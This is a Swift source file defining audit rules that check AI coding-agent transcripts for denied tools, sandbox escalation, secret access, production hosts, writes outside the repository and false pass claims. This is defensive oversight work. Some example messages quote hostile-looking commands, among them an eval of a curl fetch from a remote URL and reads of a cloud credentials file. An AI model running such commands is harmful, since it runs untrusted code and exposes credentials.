import CaskadeContracts

extension FindingRule {
  package static let ofTools: [FindingRule] = [
    toolsDenied, toolsNotAllowed, toolsNotUnderstood, toolsEscalated, toolsSecret, toolsProduction, toolsOutside,
    toolsClaim, toolsLoop, toolsUnread,
  ]

  package static let toolsDenied = FindingRule(
    "tools.denied", .tools, .error, says: "the run used a tool that is denied",
    means: "A transcript tells a call of a tool, or a command, that the contract or the policy denies.",
    matters: """
      Deny is what somebody wanted never to happen. It did, by the word of the transcript, and git may not show what came
      of it: a push, a message, a request.
      """,
    example: """
      Contracts/login.yaml: error: 'shell: git push origin main' was used, and the contract denies it \
      (session.jsonl:128) [tools.denied]
      """,
    settle: ["Have a person look at what the call did outside of the repository, and decide."])

  package static let toolsNotAllowed = FindingRule(
    "tools.not-allowed", .tools, .error, says: "the run used a tool that the contract doesn't allow",
    means: """
      The contract names the tools that the run may use, and a transcript tells a call of another one. Of a command line
      every command has to be allowed, whatever joins them; `cd`, `echo` and the like, which change nothing, are passed over.
      """,
    matters: "What the contract doesn't name was approved by nobody.",
    example: """
      error: 'shell: npm install left-pad' was used, and the contract doesn't allow it (session.jsonl:51) \
      [tools.not-allowed]
      """,
    settle: [
      "Have a person look at what the call did.",
      "Where the work needs the tool, have the contract amended, and approved again.",
    ])

  package static let toolsNotUnderstood = FindingRule(
    "tools.not-understood", .tools, .error, says: "what a call does can't be told",
    means: """
      A command line holds a part that is only known when it runs, such as a computed name or code for an interpreter, or a
      tool isn't known here. What can't be understood isn't allowed.
      """,
    matters: "A rule that an unreadable command slips past is no rule.",
    example: """
      error: 'shell: eval "$(curl -s https://example.com/x)"' was used, and what it does can't be told \
      (session.jsonl:77) [tools.not-understood]
      """,
    settle: ["Have a person look at the call in the transcript, and decide."])

  package static let toolsEscalated = FindingRule(
    "tools.escalated", .tools, .warning, says: "the run took more power than it was given",
    means:
      "A transcript tells that the sandbox was off or left, or that the agent asked nobody before it ran something.",
    matters: "Rules that the agent's own permission checks keep were not kept then.",
    example: "warning: the run took more power than it was given: no sandbox (rollout.jsonl:2) [tools.escalated]",
    settle: ["Have a person look at what ran then."])

  package static let toolsSecret = FindingRule(
    "tools.secret", .tools, .warning, says: "the run touched a secret",
    means:
      "A command holds a credential (shown masked), or a call names a file that holds one, such as `.env` or a key.",
    matters: "What an agent has read it may have sent: to the model's vendor at least.",
    example: "warning: a secret was touched: '/home/dev/.aws/credentials' (session.jsonl:9) [tools.secret]",
    settle: ["Where the credential is real, replace it."])

  package static let toolsProduction = FindingRule(
    "tools.production", .tools, .warning, says: "the run touched a host of production",
    means: "A call names a host that has `prod`, `production` or `live` among the words of its name.",
    matters: "What happens there no revert undoes.",
    example: "warning: a host of production was touched: 'db.prod.example.com' (session.jsonl:40) [tools.production]",
    settle: ["Have whoever answers for that host look at what the call did."])

  package static let toolsOutside = FindingRule(
    "tools.outside", .tools, [.warning, .note], "the run read or wrote outside of the repository",
    RuleHelp(
      means: """
        A call names a path outside of the repository and of the system's folders for scratch files, or a command writes
        where its text doesn't tell.
        """,
      matters: "Git shows nothing of it.",
      example: "warning: '/home/dev/.bashrc' was written, outside of the repository (session.jsonl:12) [tools.outside]",
      settle: ["Look at the file."]))

  package static let toolsClaim = FindingRule(
    "tools.claim", .tools, .warning, says: "a command is said to pass, and fails here",
    means: "By the transcript the last run of one of the contract's commands passed; run on the judged tree it fails.",
    matters: "Either the work changed after that, or the run was not what it looks like.",
    example: "warning: 'Build' is said to pass, and fails here (session.jsonl:201) [tools.claim]",
    settle: ["Believe the run here, and mend what fails."])

  package static let toolsLoop = FindingRule(
    "tools.loop", .tools, .warning, says: "the same command was called again and again",
    means: "A transcript tells the same command many times in a row, without any other call between them.",
    matters: "A run that goes round in circles costs money, and often ends in a workaround.",
    example: "warning: 'npm test' was called 14 times in a row (session.jsonl:300) [tools.loop]",
    settle: ["Look at what the run did about it in the end."])

  package static let toolsUnread = FindingRule(
    "tools.unread", .tools, .warning, says: "a transcript couldn't be read as a whole",
    means: """
      Lines are torn or too long, the text is cut off, results have no call, the file is no transcript that is known, or it
      is of other work. What is missing may have been a call.
      """,
    matters: "What was not read is never taken for allowed.",
    example: """
      warning: the transcript 'session.jsonl' couldn't be read as a whole: 2 lines couldn't be read (the first is line \
      40) [tools.unread]
      """,
    settle: ["Give the transcript of this run as the agent left it: caskade check --transcript FILE."])
}
